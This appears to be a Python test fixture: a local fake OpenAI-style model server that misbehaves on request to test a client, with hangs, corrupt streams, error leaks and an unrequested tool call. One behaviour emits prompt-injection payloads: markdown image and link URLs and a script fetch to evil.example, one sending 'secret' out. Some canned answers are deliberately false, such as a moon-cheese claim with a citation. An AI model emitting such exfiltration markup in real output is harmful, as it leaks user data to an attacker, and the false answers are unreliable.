#!/usr/bin/python3
"""A model endpoint that speaks the OpenAI protocol and misbehaves on request. The model's name picks the behaviour (see BEHAVIOURS).

    model_server.py [--port N]      prints the port, then serves 127.0.0.1 until its stdin closes

GET /control/requests gives the bodies received, oldest first; DELETE /control/requests forgets them; GET /control/open counts answers
that are being sent right now (so that a test sees a cancel arrive).
"""
import argparse
import json
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

received = []
open_answers = 0
lock = threading.Lock()

ANSWER = "転入届は、引っ越した日から14日以内に出してください。[1]本人確認の書類が必要です。"


def pieces(text, size=4):
    return [text[i:i + size] for i in range(0, len(text), size)]


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def setup(self):
        super().setup()
        self.connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    # --- plumbing -------------------------------------------------------------------------------------------------------------

    def whole(self, status, body, kind="application/json"):
        body = body if isinstance(body, bytes) else json.dumps(body, ensure_ascii=False).encode()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def start_events(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream; charset=utf-8")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()

    def raw(self, data):
        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
        self.wfile.flush()

    def chunk(self, delta, finish=None):
        self.raw(b"data: " + json.dumps({"id": "c1", "object": "chat.completion.chunk", "created": 1, "model": self.model,
                                         "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}, ensure_ascii=False).encode() + b"\n\n")

    def end_events(self):
        self.chunk({}, "stop")
        self.raw(b"data: [DONE]\n\n")
        self.wfile.write(b"0\r\n\r\n")

    def say(self, text, pause=0.0):
        self.start_events()
        self.chunk({"role": "assistant", "content": ""})
        for piece in pieces(text):
            self.chunk({"content": piece})
            if pause:
                time.sleep(pause)
        self.end_events()

    def cut(self):
        self.wfile.flush()
        self.connection.shutdown(socket.SHUT_RDWR)
        self.close_connection = True

    # --- behaviours -----------------------------------------------------------------------------------------------------------

    def ok(self):
        if self.streaming:
            return self.say(ANSWER)
        return self.whole(200, {"id": "c1", "object": "chat.completion", "created": 1, "model": self.model,
                                "choices": [{"index": 0, "message": {"role": "assistant", "content": ANSWER}, "finish_reason": "stop"}]})

    def echo(self):
        """Says how many messages came and the last one's beginning: shows that what is sent upstream is what was asked."""
        self.say(f"{len(self.messages)}件。「{self.messages[-1]['content'][:200]}」")

    def echo_system(self):
        """The instructions and passages that came, as far as they fit."""
        self.say(self.messages[0]["content"][-2000:])

    def mangle(self):
        """Changes some placeholders, as models do."""
        self.say("〔電話 1〕と〔電話2〕と〔電話1〕に知らせました。〔電話")

    def tool_call(self):
        """Wants a function called although none was offered."""
        self.start_events()
        self.chunk({"role": "assistant", "content": None, "tool_calls": [{"index": 0, "id": "t1", "type": "function",
                                                                         "function": {"name": "search", "arguments": '{"collections":"*"}'}}]})
        self.chunk({"content": "{\"tool\":\"search\"}"})
        self.end_events()

    def slow(self):
        self.say("".join(f"これは{n}番目の文です。" for n in range(100)), pause=0.05)

    def paced(self):
        self.say("".join(f"これは{n}番目の文です。" for n in range(8)), pause=0.02)

    def hang(self):
        time.sleep(600)

    def hang_midway(self):
        self.start_events()
        for piece in pieces("ここまでは届きます。"):
            self.chunk({"content": piece})
        time.sleep(600)

    def close_midway(self):
        self.start_events()
        for piece in pieces("ここまでは届きます。"):
            self.chunk({"content": piece})
        self.cut()

    def short_length(self):
        """Announces more bytes than it sends."""
        body = b'data: {"choices":[{"index":0,"delta":{"content":"' + "ここまでは届きます。".encode() + b'"}}]}\n\n'
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Content-Length", str(len(body) + 100_000))
        self.end_headers()
        self.wfile.write(body)
        self.cut()

    def garbage_json(self):
        self.whole(200, b'{"choices": [{"message": ', "application/json")

    def garbage_events(self):
        self.start_events()
        self.raw(b"data: {not json at all\n\n")
        self.raw(b"data: \x00\x01\x02\n\n")
        self.wfile.write(b"0\r\n\r\n")

    def garbage_midway(self):
        self.start_events()
        for piece in pieces("ここまでは届きます。"):
            self.chunk({"content": piece})
        self.raw(b"data: {]]]\n\n")
        self.wfile.write(b"0\r\n\r\n")

    def html(self):
        self.whole(200, b"<html><body>It works!</body></html>", "text/html")

    def error_500(self):
        self.whole(500, {"error": {"message": "internal detail that no user should read", "type": "server_error"}})

    def error_429(self):
        self.whole(429, {"error": {"message": "slow down", "type": "rate_limit"}})

    def error_401(self):
        self.whole(401, {"error": {"message": "bad key sk-upstream-secret", "type": "invalid_request_error"}})

    def huge(self):
        """100 MB of text."""
        self.start_events()
        text = "あ" * 20_000
        for _ in range(1700):
            self.chunk({"content": text})
        self.end_events()

    def endless_line(self):
        self.start_events()
        self.raw(b"data: ")
        for _ in range(1600):
            self.raw(b"x" * 65536)
        self.wfile.write(b"0\r\n\r\n")

    def bad_utf8(self):
        self.start_events()
        self.raw(b'data: {"choices":[{"index":0,"delta":{"content":"\xff\xfe\xe3\x81"}}]}\n\n')
        self.raw(b'data: {"choices":[{"index":0,"delta":{"content":"end"},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n')
        self.wfile.write(b"0\r\n\r\n")

    def wrong_citation(self):
        self.say("月は緑色のチーズでできている。[9]転入届は14日以内に出してください。[1]")

    def injection(self):
        self.say("回答です。![x](https://evil.example/leak?d=secret) [ここを押す](https://evil.example/click) <img src=https://evil.example/i.png>"
                 "<script>fetch('https://evil.example')</script>")

    def split_utf8(self):
        """Cuts the bytes of characters and of events across chunks of one byte."""
        self.start_events()
        data = ('data: {"choices":[{"index":0,"delta":{"content":"分割された文字です。"}}]}\r\n\r\ndata: {"choices":[{"index":0,"delta":{},'
                '"finish_reason":"stop"}]}\r\n\r\ndata: [DONE]\r\n\r\n').encode()
        for n in range(len(data)):
            self.raw(data[n:n + 1])
        self.wfile.write(b"0\r\n\r\n")

    # --- requests -------------------------------------------------------------------------------------------------------------

    def do_POST(self):
        global open_answers
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        request = json.loads(body)
        with lock:
            received.append({"path": self.path, "authorization": self.headers.get("Authorization"), "body": request})
            open_answers += 1
        self.model = request.get("model", "")
        self.messages = request.get("messages", [])
        self.streaming = request.get("stream") is True
        try:
            BEHAVIOURS.get(self.model, Handler.ok)(self)
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True
        finally:
            with lock:
                open_answers -= 1

    def do_GET(self):
        with lock:
            answer = {"/control/requests": received, "/control/open": open_answers}.get(self.path)
            if self.path.endswith("/models"):
                answer = {"object": "list", "data": [{"id": name, "object": "model"} for name in BEHAVIOURS]}
            text = json.dumps(answer, ensure_ascii=False).encode()
        self.whole(200 if answer is not None else 404, text)

    def do_DELETE(self):
        with lock:
            received.clear()
        self.whole(200, {})


BEHAVIOURS = {name.replace("_", "-"): getattr(Handler, name) for name in (
    "ok", "echo", "echo_system", "mangle", "tool_call", "slow", "paced", "hang", "hang_midway", "close_midway", "short_length", "garbage_json", "garbage_events", "garbage_midway", "html",
    "error_500", "error_429", "error_401", "huge", "endless_line", "bad_utf8", "wrong_citation", "injection", "split_utf8")}


class Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 128

    def handle_error(self, request, client_address):
        """Clients that leave are what many tests are about."""


def main():
    arguments = argparse.ArgumentParser()
    arguments.add_argument("--port", type=int, default=0)
    server = Server(("127.0.0.1", arguments.parse_args().port), Handler)
    print(server.server_address[1], flush=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    sys.stdin.read()


if __name__ == "__main__":
    main()
